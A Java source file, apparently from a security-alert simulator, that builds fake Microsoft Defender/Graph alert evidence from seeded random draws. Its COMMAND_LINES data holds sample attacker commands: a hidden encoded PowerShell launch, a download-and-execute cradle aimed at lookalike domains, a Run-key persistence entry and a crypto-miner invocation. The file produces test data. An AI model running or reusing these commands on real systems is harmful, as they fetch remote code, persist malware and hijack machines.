package io.graphsec.routes.simulator;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.graphsec.routes.simulator.AlertTemplates.Ev;
import io.graphsec.routes.simulator.AlertTemplates.Template;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;

/**
 * The alertEvidence items that describe the people and machine one generated alert is about (an
 * {@link AlertScene}), every value drawn from the {@link AlertFactory}'s seeded {@link Random} so that
 * a seed still gives the same alerts.
 */
final class AlertEvidence {

    // Graph writes DateTimeOffset with 7 fractional digits (.NET ticks), always in UTC.
    private static final DateTimeFormatter GRAPH_DATE_TIME =
            DateTimeFormatter.ofPattern("uuuu-MM-dd'T'HH:mm:ss.SSSSSSS'Z'").withZone(ZoneOffset.UTC);
    // .NET ticks (100 ns) between 0001-01-01 and the Unix epoch: Defender ids embed the creation time as ticks.
    private static final long EPOCH_TICKS = 621_355_968_000_000_000L;
    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
    private static final int MAX_BODY_CHARS = 6000;

    static final String[] RBAC_GROUPS = {"UnassignedGroup", "Workstations", "Servers-Tier1", "Finance-Laptops"};
    // fileName, filePath, publisher, signer, issuer, typical size
    private static final String[][] FILES = {
            {"powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "Microsoft Corporation", "Microsoft Windows", "Microsoft Windows Production PCA 2011", "450560"},
            {"rundll32.exe", "C:\\Windows\\System32", "Microsoft Corporation", "Microsoft Windows", "Microsoft Windows Production PCA 2011", "71680"},
            {"Invoice_0423.docm", "C:\\Users\\%USER%\\Downloads", null, null, null, "184320"},
            {"update_helper.dll", "C:\\Users\\%USER%\\AppData\\Local\\Temp", null, null, null, "1249280"},
            {"svchost32.exe", "C:\\ProgramData\\Microsoft\\Crypto", null, null, null, "3145728"},
            {"xmrig.exe", "C:\\Windows\\Temp\\~cache", null, null, null, "6136392"},
            {"AnyDesk.exe", "C:\\Users\\%USER%\\Desktop", "philandro Software GmbH", "philandro Software GmbH", "DigiCert SHA2 Assured ID Code Signing CA", "3981312"},
            {"Q3-forecast.xlsx", "C:\\Users\\%USER%\\OneDrive - Contoso\\Finance", null, null, null, "842752"}};
    private static final String[] PARENT_IMAGES = {"explorer.exe", "WINWORD.EXE", "cmd.exe", "services.exe", "wmiprvse.exe"};
    private static final String[] COMMAND_LINES = {
            "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
            "powershell.exe -ExecutionPolicy Bypass -Command \"IEX (New-Object Net.WebClient).DownloadString('http://%HOST%/a.ps1')\"",
            "rundll32.exe \"C:\\Users\\%USER%\\AppData\\Local\\Temp\\update_helper.dll\",DllRegisterServer",
            "cmd.exe /c reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d \"C:\\ProgramData\\Microsoft\\Crypto\\svchost32.exe\" /f",
            "xmrig.exe --donate-level 1 -o pool.%HOST%:443 -u 4AdUndXHHZ9pfQj27 -k --tls"};
    private static final String[] URL_HOSTS = {"login-microsoftonline-verify.com", "contoso-sharepoint.docs-view.net",
            "cdn-update-service.org", "invoice-portal.top", "secure-m365-auth.info", "files-transfer-now.xyz"};
    private static final String[][] REGISTRY_KEYS = {
            {"HKEY_CURRENT_USER", "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"},
            {"HKEY_LOCAL_MACHINE", "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce"},
            {"HKEY_LOCAL_MACHINE", "SYSTEM\\CurrentControlSet\\Services\\WinDefendHelper"},
            {"HKEY_LOCAL_MACHINE", "SYSTEM\\CONTROLSET001\\CONTROL\\WMI\\AUTOLOGGER\\SENSEAUDITLOGGER"}};
    private static final String[][] OAUTH_APPS = {{"MailSync Pro", "MailSync Ltd"}, {"PDF Converter Online", "Unverified"},
            {"Contoso HR Bot", "Contoso"}};
    private static final String[] VERDICTS = {"suspicious", "suspicious", "malicious", "unknown", "noThreatsFound"};
    private static final String[] REMEDIATION = {"none", "none", "none", "notFound", "prevented", "blocked", "active"};

    private final Random random;
    private final SeededDraws draws;

    AlertEvidence(Random random, SeededDraws draws) {
        this.random = random;
        this.draws = draws;
    }

    /**
     * 2-5 evidence items: the template's core kind first, then others from its list in random order (a list names a
     * kind twice when an alert really carries two, e.g. both IPs of an impossible-travel pair). Items beyond the second
     * are dropped once the body would pass {@link #MAX_BODY_CHARS}, which keeps alerts near Defender's 3-5 KB.
     */
    void fillEvidence(ArrayNode items, ObjectNode alert, Template t, AlertScene s, Instant created) {
        int wanted = 2 + random.nextInt(Math.min(5, t.evidence().size()) - 1);
        List<Ev> rest = new ArrayList<>(t.evidence().subList(1, t.evidence().size()));
        Collections.shuffle(rest, random);
        List<Ev> kinds = new ArrayList<>();
        kinds.add(t.evidence().get(0));
        kinds.addAll(rest.subList(0, wanted - 1));
        int size = alert.toString().length();
        for (Ev kind : kinds) {
            ObjectNode item = evidenceItem(kind, s, created);
            int itemSize = item.toString().length() + 1;
            if (items.size() >= 2 && size + itemSize > MAX_BODY_CHARS) {
                break;
            }
            items.add(item);
            size += itemSize;
        }
    }

    private ObjectNode evidenceItem(Ev kind, AlertScene s, Instant created) {
        return switch (kind) {
            case DEVICE -> deviceEvidence(s, created);
            case USER -> userEvidence(s, created);
            case IP -> ipEvidence(s, created);
            case FILE -> fileEvidence(s, created);
            case PROCESS -> processEvidence(s, created);
            case URL -> urlEvidence(created);
            case MAILBOX -> mailboxEvidence(s, created);
            case REGISTRY_KEY -> registryKeyEvidence(created);
            case OAUTH_APP -> oauthApplicationEvidence(created);
        };
    }

    /** The alertEvidence base properties every subtype carries, in the order Graph writes them. */
    private ObjectNode base(String subtype, Instant created, List<String> roles, List<String> detailedRoles) {
        ObjectNode e = JSON.objectNode();
        e.put("@odata.type", "#microsoft.graph.security." + subtype);
        e.put("createdDateTime", format(created));
        e.put("verdict", draws.pick(VERDICTS));
        String remediation = draws.pick(REMEDIATION);
        e.put("remediationStatus", remediation);
        e.put("remediationStatusDetails", remediation.equals("none") ? null : "Remediation action: " + remediation);
        ArrayNode r = JSON.arrayNode();
        roles.forEach(r::add);
        e.set("roles", r);
        ArrayNode dr = JSON.arrayNode();
        detailedRoles.forEach(dr::add);
        e.set("detailedRoles", dr);
        ArrayNode tags = JSON.arrayNode();
        if (random.nextInt(6) == 0) {
            tags.add("Test Machine");
        }
        e.set("tags", tags);
        return e;
    }

    private ObjectNode deviceEvidence(AlertScene s, Instant created) {
        ObjectNode e = base("deviceEvidence", created, List.of("compromised"), List.of("Main device"));
        e.put("firstSeenDateTime", format(created.minus(Duration.ofDays(30 + random.nextInt(700)))));
        e.put("mdeDeviceId", s.mdeDeviceId());
        e.put("azureAdDeviceId", draws.uuid());
        e.put("deviceDnsName", s.hostName() + "." + AlertScene.DOMAIN);
        e.put("hostName", s.hostName());
        e.put("ntDomain", AlertScene.NT_DOMAIN);
        e.put("dnsDomain", AlertScene.DOMAIN);
        e.put("osPlatform", s.os()[0]);
        e.put("osBuild", Long.parseLong(s.os()[1]));
        e.put("version", s.os()[2]);
        e.put("healthStatus", random.nextInt(10) == 0 ? "inactive" : "active");
        e.put("riskScore", draws.pick(List.of("none", "informational", "low", "medium", "high")));
        e.put("rbacGroupId", 70 + random.nextInt(10));
        e.put("rbacGroupName", draws.pick(RBAC_GROUPS));
        e.put("onboardingStatus", "onboarded");
        e.put("defenderAvStatus", draws.pick(List.of("updated", "updated", "notUpdated", "unknown")));
        e.set("ipInterfaces", JSON.arrayNode().add(s.privateIp()).add("fe80::" + draws.hex(4) + ":" + draws.hex(4)));
        e.put("lastIpAddress", s.privateIp());
        e.put("lastExternalIpAddress", s.publicIp());
        ArrayNode users = JSON.arrayNode();
        users.addObject().put("accountName", s.account()).put("domainName", AlertScene.NT_DOMAIN);
        e.set("loggedOnUsers", users);
        e.set("resourceAccessEvents", JSON.arrayNode());
        if (s.hostName().startsWith("vm")) {
            String sub = draws.uuid();
            e.putObject("vmMetadata")
                    .put("vmId", draws.uuid())
                    .put("cloudProvider", "azure")
                    .put("resourceId", "/subscriptions/" + sub + "/resourceGroups/rg-prod/providers/Microsoft.Compute/virtualMachines/" + s.hostName())
                    .put("subscriptionId", sub);
        } else {
            e.putNull("vmMetadata");
        }
        return e;
    }

    private ObjectNode userAccount(AlertScene s) {
        ObjectNode u = JSON.objectNode();
        u.put("accountName", s.account());
        u.put("domainName", AlertScene.NT_DOMAIN);
        u.put("userSid", s.userSid());
        u.put("azureAdUserId", s.aadUserId());
        u.put("userPrincipalName", s.upn());
        u.put("displayName", s.displayName());
        return u;
    }

    private ObjectNode userEvidence(AlertScene s, Instant created) {
        ObjectNode e = base("userEvidence", created, List.of("compromised"), List.of("Impacted user"));
        e.putNull("stream");
        e.set("userAccount", userAccount(s));
        return e;
    }

    private ObjectNode ipEvidence(AlertScene s, Instant created) {
        // Half the IPs repeat the scene's attacker address (so evidence correlates); the rest are other addresses,
        // e.g. the second leg of an impossible-travel pair.
        boolean sceneIp = random.nextBoolean();
        String[] loc = sceneIp ? s.location() : draws.pick(AlertScene.LOCATIONS);
        ObjectNode e = base("ipEvidence", created, List.of("attacker"), List.of("Source IP"));
        e.put("ipAddress", sceneIp ? s.publicIp() : draws.publicIp());
        e.put("countryLetterCode", loc[0]);
        e.putObject("location")
                .put("city", loc[3])
                .put("countryName", loc[1])
                .put("latitude", Double.parseDouble(loc[4]))
                .put("longitude", Double.parseDouble(loc[5]))
                .put("state", loc[2]);
        e.putNull("stream");
        return e;
    }

    private ObjectNode fileDetails(String[] file, AlertScene s) {
        boolean known = file[2] != null;
        ObjectNode f = JSON.objectNode();
        f.put("sha1", draws.hex(40));
        f.put("sha256", draws.hex(64));
        f.put("fileName", file[0]);
        f.put("filePath", file[1].replace("%USER%", s.account()));
        long size = Long.parseLong(file[5]);
        f.put("fileSize", known ? size : size + random.nextInt(4096));
        f.put("filePublisher", file[2]);
        f.put("signer", file[3]);
        f.put("issuer", file[4]);
        return f;
    }

    private ObjectNode fileEvidence(AlertScene s, Instant created) {
        ObjectNode e = base("fileEvidence", created, List.of("suspicious"), List.of("Referred in command line"));
        e.put("detectionStatus", draws.pick(List.of("detected", "detected", "blocked", "prevented")));
        e.put("mdeDeviceId", s.mdeDeviceId());
        e.set("fileDetails", fileDetails(draws.pick(FILES), s));
        return e;
    }

    private ObjectNode processEvidence(AlertScene s, Instant created) {
        ObjectNode e = base("processEvidence", created, List.of(), List.of());
        Instant start = created.minus(Duration.ofSeconds(30 + random.nextInt(3600)));
        e.put("processId", 1000 + random.nextInt(20000));
        e.put("parentProcessId", 400 + random.nextInt(8000));
        e.put("processCommandLine", draws.pick(COMMAND_LINES).replace("%USER%", s.account()).replace("%HOST%", draws.pick(URL_HOSTS)));
        e.put("processCreationDateTime", format(start));
        e.put("parentProcessCreationDateTime", format(start.minus(Duration.ofSeconds(random.nextInt(86_400)))));
        e.put("detectionStatus", "detected");
        e.put("mdeDeviceId", s.mdeDeviceId());
        e.set("imageFile", fileDetails(FILES[random.nextInt(2)], s));
        String parent = draws.pick(PARENT_IMAGES);
        e.putObject("parentProcessImageFile")
                .putNull("sha1").putNull("sha256")
                .put("fileName", parent)
                .put("filePath", parent.equals("WINWORD.EXE") ? "C:\\Program Files\\Microsoft Office\\root\\Office16" : "C:\\Windows\\System32")
                .put("fileSize", 100_000 + random.nextInt(900_000))
                .put("filePublisher", "Microsoft Corporation")
                .putNull("signer").putNull("issuer");
        e.set("userAccount", userAccount(s));
        return e;
    }

    private ObjectNode urlEvidence(Instant created) {
        ObjectNode e = base("urlEvidence", created, List.of("commandAndControl"), List.of("Clicked URL"));
        e.put("url", "https://" + draws.pick(URL_HOSTS) + "/" + draws.hex(8) + "/index.html?u=" + draws.hex(12));
        return e;
    }

    private ObjectNode mailboxEvidence(AlertScene s, Instant created) {
        ObjectNode e = base("mailboxEvidence", created, List.of("destination"), List.of("Recipient"));
        e.put("displayName", s.displayName());
        e.put("primaryAddress", s.upn());
        e.put("upn", s.upn());
        e.set("userAccount", userAccount(s));
        return e;
    }

    private ObjectNode registryKeyEvidence(Instant created) {
        String[] key = draws.pick(REGISTRY_KEYS);
        ObjectNode e = base("registryKeyEvidence", created, List.of("edited"), List.of());
        e.put("registryHive", key[0]);
        e.put("registryKey", key[1]);
        return e;
    }

    private ObjectNode oauthApplicationEvidence(Instant created) {
        String[] app = draws.pick(OAUTH_APPS);
        ObjectNode e = base("oauthApplicationEvidence", created, List.of("contextual"), List.of("OAuth application"));
        e.put("appId", draws.uuid());
        e.put("displayName", app[0]);
        e.put("objectId", draws.uuid());
        e.put("publisher", app[1]);
        return e;
    }

    static long ticks(Instant instant) {
        return EPOCH_TICKS + instant.getEpochSecond() * 10_000_000L + instant.getNano() / 100;
    }

    static String format(Instant instant) {
        return GRAPH_DATE_TIME.format(instant);
    }
}
